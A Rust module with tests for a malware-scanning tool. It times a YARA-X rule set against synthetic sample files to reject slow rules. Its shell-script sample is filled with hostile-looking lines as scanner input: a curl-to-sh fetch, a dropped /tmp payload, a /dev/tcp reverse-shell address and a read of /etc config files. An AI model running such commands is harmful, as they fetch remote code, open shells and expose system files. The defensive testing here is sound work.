//! A timed trial of a rule set before it runs on a host: a few buffers like the files a
//! host scans (an executable, a script, text, random bytes, zeros), each scanned with a
//! budget. A set that compiles but would take seconds per file (loops over every byte,
//! patterns that match everywhere) is caught here, not on the host.

use crate::rules::RuleSet;
use std::time::{Duration, Instant};

/// What scanning the samples cost.
#[derive(Debug, Clone, PartialEq)]
pub struct TrialCost {
    /// Bytes scanned.
    pub bytes: usize,
    /// The slowest sample: its name and milliseconds.
    pub slowest: (&'static str, f64),
    /// Milliseconds of all samples.
    pub total_ms: f64,
}

/// Why a set failed its trial.
#[derive(Debug, Clone, PartialEq, thiserror::Error)]
pub enum TrialError {
    /// A sample took longer than the budget (or the scan was stopped at its timeout).
    #[error(
        "scanning the {sample} sample ({kib} KiB) took {ms:.0} ms{}, past the budget of {budget_ms} ms per sample",
        if *.timed_out { " and was stopped" } else { "" }
    )]
    TooSlow {
        /// The sample.
        sample: &'static str,
        /// Its size in KiB.
        kib: usize,
        /// Milliseconds taken.
        ms: f64,
        /// Whether the scanner's timeout stopped it.
        timed_out: bool,
        /// The budget.
        budget_ms: u64,
    },
    /// The scanner failed on a sample.
    #[error("scanning the {sample} sample failed: {reason}")]
    Failed {
        /// The sample.
        sample: &'static str,
        /// Why.
        reason: String,
    },
}

/// The sample buffers: `(name, bytes)`, about 4 MiB in all, the same on every run
/// (`own_exe`, when given, is the start of a real executable, else a synthetic ELF).
pub fn samples(own_exe: Option<&[u8]>) -> Vec<(&'static str, Vec<u8>)> {
    const MIB: usize = 1 << 20;
    let mut rng = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = move || {
        // xorshift64*: deterministic bytes.
        rng ^= rng >> 12;
        rng ^= rng << 25;
        rng ^= rng >> 27;
        rng.wrapping_mul(0x2545_f491_4f6c_dd1d)
    };
    let random: Vec<u8> = (0..MIB / 8).flat_map(|_| next().to_le_bytes()).collect();
    let elf = match own_exe {
        Some(b) if b.starts_with(b"\x7fELF") => b[..b.len().min(MIB)].to_vec(),
        _ => {
            let mut e = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
            e.resize(64, 0);
            let mut i = 0usize;
            while e.len() < MIB {
                // Code-like bytes with strings among them.
                e.extend_from_slice(&[0x48, 0x89, 0xe5, 0xe8, (i % 251) as u8, 0, 0, 0, 0xc3]);
                if i.is_multiple_of(64) {
                    e.extend_from_slice(b"/lib64/ld-linux-x86-64.so.2\0GLIBC_2.34\0");
                }
                i += 1;
            }
            e.truncate(MIB);
            e
        }
    };
    let mut script = b"#!/bin/sh\n".to_vec();
    while script.len() < MIB / 2 {
        script.extend_from_slice(
            b"curl -fsSL http://198.51.100.23/a.sh | sh; echo aGVsbG8= | base64 -d > /tmp/.x\n\
              chmod +x /tmp/.x && /tmp/.x --user=root 0>&1 /dev/tcp/203.0.113.9/4444\n\
              for f in /etc/*.conf; do cat \"$f\"; done\n",
        );
    }
    let words = [
        "the", "agent", "reads", "every", "file", "written", "to", "disk", "and", "judges", "it",
        "with", "rules", "that", "a", "team", "keeps", "current", "each", "day",
    ];
    let mut text = Vec::with_capacity(MIB);
    let mut i = 0usize;
    while text.len() < MIB {
        text.extend_from_slice(words[i % words.len()].as_bytes());
        text.push(if i % 13 == 12 { b'\n' } else { b' ' });
        i = i.wrapping_mul(7).wrapping_add(3) % 1021;
    }
    vec![
        ("executable", elf),
        ("script", script),
        ("text", text),
        ("random", random),
        ("zeros", vec![0u8; MIB / 2]),
    ]
}

/// Scans every sample with `set`, each at most `budget` (the scanner stops at twice
/// the budget, and at least one second: its clock ticks in seconds); the first sample
/// past the budget fails the trial.
pub fn trial(
    set: &RuleSet,
    samples: &[(&'static str, Vec<u8>)],
    budget: Duration,
) -> Result<TrialCost, TrialError> {
    let mut scanner = yara_x::Scanner::new(set.rules());
    scanner.set_timeout((budget * 2).max(Duration::from_secs(1)));
    scanner.fast_scan(true);
    let mut cost = TrialCost {
        bytes: 0,
        slowest: ("", 0.0),
        total_ms: 0.0,
    };
    let budget_ms = u64::try_from(budget.as_millis()).unwrap_or(u64::MAX);
    for (name, bytes) in samples {
        for (var, value) in crate::EXTERNALS.iter().zip([
            "sample",
            "/tmp/sample",
            "",
            crate::file_type(&bytes[..bytes.len().min(512)]),
            "root",
        ]) {
            // Every name in EXTERNALS is declared as a string when the set compiles.
            let _ = scanner.set_global(var, value);
        }
        let started = Instant::now();
        let result = scanner.scan(bytes).map(|_| ());
        let ms = started.elapsed().as_secs_f64() * 1e3;
        let too_slow = |timed_out| TrialError::TooSlow {
            sample: name,
            kib: bytes.len() / 1024,
            ms,
            timed_out,
            budget_ms,
        };
        match result {
            Ok(()) => {}
            Err(yara_x::ScanError::Timeout) => return Err(too_slow(true)),
            Err(e) => {
                return Err(TrialError::Failed {
                    sample: name,
                    reason: e.to_string(),
                })
            }
        }
        if ms > budget.as_secs_f64() * 1e3 {
            return Err(too_slow(false));
        }
        cost.bytes += bytes.len();
        cost.total_ms += ms;
        if ms > cost.slowest.1 {
            cost.slowest = (name, ms);
        }
    }
    Ok(cost)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    fn set(text: &str) -> RuleSet {
        let (set, report) =
            RuleSet::compile_sources(&[(PathBuf::from("t.yar"), text.as_bytes().to_vec())])
                .expect("compiles");
        assert!(report.refused.is_empty(), "{:?}", report.refused);
        set
    }

    #[test]
    fn the_samples_are_the_same_on_every_run_and_of_every_kind() {
        let a = samples(None);
        assert_eq!(a, samples(None));
        let kinds: Vec<&str> = a.iter().map(|(_, b)| crate::file_type(&b[..512])).collect();
        assert_eq!(kinds[0], "ELF", "{kinds:?}");
        assert_eq!(kinds[1], "SHELL", "{kinds:?}");
        let total: usize = a.iter().map(|(_, b)| b.len()).sum();
        assert!(total >= 4 << 20, "{total}");
    }

    #[test]
    fn a_plain_set_passes_and_a_set_that_loops_over_every_byte_pair_is_refused() {
        let s = samples(None);
        let fast = set("rule curl { strings: $a = \"curl -fsSL\" condition: $a }");
        let cost = trial(&fast, &s, Duration::from_millis(500)).expect("fast set passes");
        assert_eq!(cost.bytes, s.iter().map(|(_, b)| b.len()).sum::<usize>());
        let slow = set("rule quadratic { condition: for any i in (0..filesize) : \
             ( for any j in (0..filesize) : ( uint8(i) + uint8(j) == 600 ) ) }");
        let started = Instant::now();
        let e = trial(&slow, &s, Duration::from_millis(200)).expect_err("slow set refused");
        assert!(
            matches!(
                e,
                TrialError::TooSlow {
                    sample: "executable",
                    ..
                }
            ),
            "{e}"
        );
        assert!(e.to_string().contains("past the budget of 200 ms"), "{e}");
        // Stopped by the scanner's timeout, not run to its end (hours).
        assert!(started.elapsed() < Duration::from_secs(30));
    }
}
